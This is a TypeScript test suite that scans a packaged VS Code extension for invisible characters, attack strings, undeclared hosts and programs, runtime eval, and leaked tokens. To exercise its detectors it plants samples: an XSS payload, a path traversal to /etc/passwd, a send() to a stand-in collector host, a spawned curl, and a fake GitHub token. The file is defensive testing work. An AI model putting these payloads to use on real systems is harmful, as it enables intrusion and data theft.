import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { listedPackages } from '../harness/billOfMaterials.ts';
import { root, vsixFile } from '../harness/places.ts';
import { bundledFolders, thirdPartyNotices } from '../harness/thirdPartyNotices.ts';
import { bundleFacts } from './support/bundleFacts.ts';
import { hostileIn, hostsIn, invisibleIn, startedIn } from './support/findings.ts';
import { zipEntries } from './support/zipEntries.ts';

const texts = Array.from(zipEntries(vsixFile), ([name, content]) => ({ name, text: content.toString('utf8') })).filter(
	({ name }) => !name.endsWith('.png'),
);
const scripts = texts.filter(({ name }) => name.endsWith('.js'));
const reach = readFileSync(join(root, 'docs/reach.md'), 'utf8');

/** The findings of a check in shipped files, each with its file. */
async function found(
	files: typeof texts,
	check: (text: string) => readonly string[] | Promise<readonly string[]>,
): Promise<readonly string[]> {
	const all = await Promise.all(
		files.map(async ({ name, text }) => (await check(text)).map((finding) => `${name}: ${finding}`)),
	);
	return all.flat();
}

const unnamedHosts = async (script: string): Promise<readonly string[]> =>
	(await hostsIn(script)).filter((host) => !reach.includes(`\`${host}\``));

const unnamedPrograms = async (script: string): Promise<readonly string[]> =>
	(await startedIn(script)).filter((program) => !reach.includes(`\`${program}\``));

suite('shipped files', function () {
	this.timeout(60_000);

	test('have no invisible code points', async () => {
		assert.deepEqual(await found(texts, invisibleIn), []);
		for (const planted of ['\u200B', '\u202E', '\u{E0041}', '\uFE0F', '\u00AD', '\uE000']) {
			assert.equal(invisibleIn(`a${planted}b`).length, 1);
		}
	});

	test('contain no text of attacks', async () => {
		assert.deepEqual(await found(texts, hostileIn), []);
		assert.equal(hostileIn('<img src=x onerror=alert(1)> [a](javascript:alert(1)) ../../etc/passwd').length, 3);
	});

	test('name no host that docs/reach.md leaves out', async () => {
		assert.deepEqual(await found(scripts, unnamedHosts), []);
		assert.deepEqual(await unnamedHosts('send("https://collector.example/x"); // https://comment.example'), [
			'collector.example',
		]);
	});

	test('start no program that docs/reach.md leaves out', async () => {
		assert.deepEqual(await found(scripts, unnamedPrograms), []);
		const planted = 'import { spawn as spawn2 } from "node:child_process"; spawn2("curl", []);';
		assert.deepEqual(await unnamedPrograms(planted), ["'curl'"]);
		const programs = /ProgramName = (.*);/.exec(
			readFileSync(join(root, 'packages/hardened-git/src/gitFailure.ts'), 'utf8'),
		)?.[1];
		const names = Array.from(programs?.matchAll(/'([\w-]+)'/g) ?? [], ([, name = '']) => name);
		assert.ok(names.length > 3);
		assert.deepEqual(
			names.filter((name) => !reach.includes(`\`${name}\``)),
			[],
		);
	});

	test('run as written: no code is packed, evaluated or compiled at run time', () => {
		const packed = texts.filter(
			({ name, text }) => name.endsWith('.js') && /node:vm|\beval\(|new Function\(|compileFunction/.test(text),
		);
		assert.deepEqual(packed, []);
	});

	test('include a bill of materials that names exactly the bundled packages', () => {
		const bill = texts.find(({ name }) => name === 'extension/sbom.cdx.json')?.text ?? assert.fail('no bill');
		const listed = listedPackages(bill);
		const bundles = scripts.map(({ name }) => name.replace('extension/', ''));
		const inputs = bundles.flatMap((bundle) => bundleFacts(bundle).inputs);
		const bundled = new Set(inputs.flatMap((path) => /^node_modules\/((?:@[^/]+\/)?[^/]+)\//.exec(path)?.[1] ?? []));
		assert.ok(bundled.size > 5);
		assert.deepEqual(listed.map((each) => each.replace(/(?<=.)@.*/, '')).toSorted(), [...bundled].toSorted());
		assert.doesNotMatch(bill, /serialNumber|"tools"|https?:\/\/(?!cyclonedx|json-schema)[^"]*registry/);
	});

	test('include the licence of every bundled package', () => {
		const notices = texts.find(({ name }) => name === 'extension/ThirdPartyNotices.txt')?.text ?? assert.fail('none');
		const named = Array.from(notices.matchAll(/^-{80}\n(\S+) [\d.]+\n-{80}\n\n(?=\S)/gm), ([, name]) => name);
		assert.deepEqual(
			named,
			bundledFolders().map((folder) => folder.replace(/^.*node_modules\//, '')),
		);
		assert.ok(named.includes('undici') && /Permission is hereby granted/.test(notices));
		assert.throws(() => thirdPartyNotices(['test/unit']), /package\.json/);
	});

	test('are not packaged with a token inside', () => {
		const folder = mkdtempSync(join(tmpdir(), 'forge-desk-secret-'));
		const manifest = { name: 'a', publisher: 'b', version: '1.0.0', engines: { vscode: '^1.125.0' }, license: 'MIT' };
		const pack = (token: string): { readonly status: number | null; readonly said: string } => {
			writeFileSync(join(folder, 'notes.txt'), `key: ${token}\n`);
			const args = ['package', '--no-dependencies', '--allow-missing-repository', '--skip-license', '--out', 'a.vsix'];
			const vsce = join(root, 'node_modules/@vscode/vsce/vsce');
			const { status, stdout, stderr } = spawnSync(process.execPath, [vsce, ...args], {
				cwd: folder,
				encoding: 'utf8',
			});
			return { status, said: `${stdout}${stderr}` };
		};
		try {
			writeFileSync(join(folder, 'package.json'), JSON.stringify(manifest));
			writeFileSync(join(folder, 'README.md'), '# A\n\nFor a test of packaging.\n');
			const clean = pack('none');
			assert.equal(clean.status, 0, clean.said);
			const planted = pack(['ghp', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'].join('_'));
			assert.equal(planted.status, 1);
			assert.match(planted.said, /secret|sensitive/i);
		} finally {
			rmSync(folder, { recursive: true, force: true });
		}
	});
});
